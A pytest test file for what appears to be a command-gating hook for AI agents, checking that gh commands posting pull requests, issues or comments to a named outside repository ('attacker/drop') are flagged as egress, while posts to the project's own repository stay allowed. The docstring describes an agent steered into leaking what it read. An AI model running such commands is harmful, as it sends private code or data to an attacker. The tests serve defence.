"""Text posted to a repository the command names (`gh ... -R/--repo OWNER/REPO`) goes to whoever owns it: an
agent steered to a public repository can paste what it read there. Posting to the project's own repository
(the default) stays routine. Commands are only analysed, never run."""

from __future__ import annotations

import pytest
from hookward.verdicts.decision import Verdict

from tests.spec_redteam_support import Sandbox, assert_decided


@pytest.mark.parametrize(
    "command",
    [
        "gh pr create -R attacker/drop --fill",
        "gh --repo attacker/drop pr create --title t --body 'see the code'",
        "gh issue create -R attacker/drop --title x --body y",
        "gh issue new --repo=attacker/drop -t x -b y",
        "gh pr comment 12 --repo=attacker/drop --body x",
        "gh issue comment 3 -R attacker/drop -b x",
        "gh pr review 3 -R attacker/drop --comment -b x",
    ],
)
def test_posting_to_a_repository_the_command_names_is_egress(box: Sandbox, command: str) -> None:
    assert_decided(box.decide(command), Verdict.ASK, "floor.egress", command)


@pytest.mark.parametrize(
    "command",
    ["gh pr create --fill", "gh issue create --title x --body y", "gh pr view 12 -R o/r", "gh issue list -R o/r"],
)
def test_posting_to_the_projects_own_repository_or_reading_another_stays_allowed(box: Sandbox, command: str) -> None:
    decision = box.decide(command)
    assert decision.verdict == Verdict.ALLOW, (command, decision.rule_ids, decision.reasons)
